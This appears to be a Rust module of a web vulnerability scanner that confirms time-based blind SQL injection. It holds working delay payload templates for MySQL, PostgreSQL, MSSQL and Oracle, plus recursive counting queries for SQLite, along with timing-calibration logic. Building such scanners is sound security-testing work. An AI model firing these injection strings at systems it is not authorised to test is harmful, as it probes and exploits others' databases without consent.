//! By times that follow a delay.
//!
//! Every delay stands in a query of its own that depends on no row: it is worked out once, however many rows there are. The
//! value around it stays what it is, so that conditions, lists and inserts all take it.

use std::time::Duration;

use super::{Dbms, Proven, TIME};
use crate::conclude::Sighting;
use crate::data::delay::{self, Pace, seconds};
use crate::data::point;
use crate::probe::{Probe, ProbeError};

/// What came of it.
pub(super) enum Timed {
    Proven(Proven),
    No,
    Unclear(String),
}

/// Whether a template needs a number.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Stands {
    /// Unquoted.
    Number,
    /// In a text.
    Text,
}

/// `{S}` is the delay in seconds.
const TEMPLATES: &[(Dbms, Stands, &str)] = &[
    (Dbms::MySql, Stands::Number, "{V}-(SELECT 0 FROM (SELECT SLEEP({S}))w)"),
    (Dbms::MySql, Stands::Text, "{V}'-(SELECT 0 FROM (SELECT SLEEP({S}))w)-'"),
    (Dbms::MySql, Stands::Text, "{V}\"-(SELECT 0 FROM (SELECT SLEEP({S}))w)-\""),
    (Dbms::PostgreSql, Stands::Number, "{V}-(SELECT 0 FROM pg_sleep({S}))"),
    (Dbms::PostgreSql, Stands::Text, "{V}'||(SELECT '' FROM pg_sleep({S}))||'"),
    (Dbms::PostgreSql, Stands::Text, "{V}';SELECT pg_sleep({S})-- -"),
    (Dbms::MsSql, Stands::Number, "{V};WAITFOR DELAY '0:0:{S}'-- -"),
    (Dbms::MsSql, Stands::Text, "{V}';WAITFOR DELAY '0:0:{S}'-- -"),
    (Dbms::MsSql, Stands::Text, "{V}');WAITFOR DELAY '0:0:{S}'-- -"),
    (Dbms::Oracle, Stands::Number, "{V}-(SELECT 0*DBMS_PIPE.RECEIVE_MESSAGE('w',{S}) FROM DUAL)"),
    (Dbms::Oracle, Stands::Text, "{V}'||(SELECT SUBSTR(DBMS_PIPE.RECEIVE_MESSAGE('w',{S}),2) FROM DUAL)||'"),
];

/// SQLite knows no delay: it counts to `{N}`, without holding anything in memory.
const COUNTING: &[(Stands, &str)] = &[
    (
        Stands::Number,
        "{V}-(WITH RECURSIVE w(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM w LIMIT {N}) SELECT 0*count(*) FROM w)",
    ),
    (
        Stands::Text,
        "{V}'||(WITH RECURSIVE w(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM w LIMIT {N}) SELECT substr('',count(*)) FROM w)||'",
    ),
];
/// How far SQLite counts at first: well under a second on any machine.
const FIRST_COUNT: u64 = 1 << 19;
/// How far it counts at most: some seconds.
const MOST_COUNT: u64 = 1 << 25;

/// Tries every template that fits.
pub(super) async fn prove(probe: &Probe<'_>) -> Result<Timed, ProbeError> {
    let delay = match delay::pace(probe).await? {
        Pace::Delay(delay) => delay,
        Pace::Unclear(why) => return Ok(Timed::Unclear(why)),
    };
    let base = point::base(probe);
    let fits = |stands: Stands| stands == Stands::Text || point::is_number(base);
    for (dbms, _, template) in TEMPLATES.iter().filter(|(_, s, _)| fits(*s)) {
        let wait = |units: u32, delay: Duration| {
            template.replace("{S}", &seconds(units, delay)).replace("{V}", &fresh(probe, base))
        };
        if let Some(delayed) = delay::decide(probe, &wait, delay).await? {
            return Ok(proven(delayed, *dbms));
        }
    }
    for (_, template) in COUNTING.iter().filter(|(s, _)| fits(*s)) {
        if let Some(delayed) = counted(probe, template, delay).await? {
            return Ok(proven(delayed, Dbms::Sqlite));
        }
    }
    Ok(delay::lost(probe).map_or(Timed::No, Timed::Unclear))
}

fn proven(delayed: delay::Delayed, dbms: Dbms) -> Timed {
    let summary = format!("{} (a delay as {} knows it)", delayed.summary, dbms.name());
    let sighting = Sighting::confirmed(TIME, summary, delayed.web);
    Timed::Proven(Proven { sighting, dbms: Some(dbms), close: None })
}

/// The value; a number with a random difference of nothing behind it where no two requests may be equal.
fn fresh(probe: &Probe<'_>, base: &str) -> String {
    if probe.request.effect() <= model::definition::Effect::Safe {
        return base.to_owned();
    }
    let n = probe.client.env().below(1 << 30);
    if point::is_number(base) { format!("{base}-{n}+{n}") } else { format!("{base}{n}") }
}

/// Finds out how far SQLite counts in the delay, then decides.
async fn counted(
    probe: &Probe<'_>,
    template: &str,
    delay: Duration,
) -> Result<Option<delay::Delayed>, ProbeError> {
    let base = point::base(probe);
    let with = |count: u64| template.replace("{N}", &count.to_string()).replace("{V}", &fresh(probe, base));
    let none = probe.send_timed(&with(1)).await?.1;
    let mut count = FIRST_COUNT;
    let mut took = probe.send_timed(&with(count)).await?.1;
    // Half a million steps take SQLite some ten milliseconds at least.
    if took < none + Duration::from_millis(8) {
        return Ok(None);
    }
    while took < delay && count < MOST_COUNT {
        count *= 2;
        took = probe.send_timed(&with(count)).await?.1;
    }
    if took < delay {
        return Ok(None);
    }
    let wait = |units: u32, wanted: Duration| {
        // The second try asks for a longer delay.
        let stretch = wanted.as_millis().div_ceil(delay.as_millis().max(1));
        let steps = u128::from(count) * u128::from(units) * stretch * 5 / 4;
        with(u64::try_from(steps).unwrap_or(MOST_COUNT).clamp(1, 4 * MOST_COUNT))
    };
    delay::decide(probe, &wait, delay).await
}
